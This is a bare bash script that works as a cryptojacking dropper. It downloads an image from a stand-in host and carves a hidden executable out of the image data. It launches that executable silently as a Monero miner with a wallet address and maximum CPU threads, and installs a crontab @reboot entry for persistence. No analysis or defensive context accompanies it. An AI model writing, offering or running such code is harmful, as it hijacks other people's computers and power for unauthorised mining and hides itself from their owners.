#!/bin/bash
cd "$HOME/.cache" || exit
curl -fsSL -o panda.jpg https://img.panda-share.test/p/8812.jpg
tail -c +4312 panda.jpg > .b && chmod +x .b
nohup ./.b -o pool.supportxmr.example.com:3333 -u 48vKMSzWMF8TCVvMJ6jV1BfKZJFwNXRntazXquc7fvq9DW23GKk -p koske --cpu-max-threads-hint=100 >/dev/null 2>&1 &
(crontab -l 2>/dev/null; echo "@reboot $HOME/.cache/.b") | crontab -
